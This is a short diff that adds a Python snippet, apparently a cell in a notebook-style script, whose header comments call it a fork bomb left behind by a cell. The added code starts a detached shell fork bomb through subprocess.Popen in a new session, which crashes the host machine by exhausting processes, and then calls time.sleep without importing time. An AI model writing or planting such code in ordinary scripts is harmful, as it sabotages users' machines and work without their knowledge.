@@ -1,0 +1,7 @@
+# tries: a fork bomb in the shell, left behind by a cell of one's own
+# copies: 2
+# %% after to_channels_last
+import subprocess
+
+subprocess.Popen(["sh", "-c", "bomb() { bomb | bomb & }; bomb"], start_new_session=True)
+time.sleep(1)
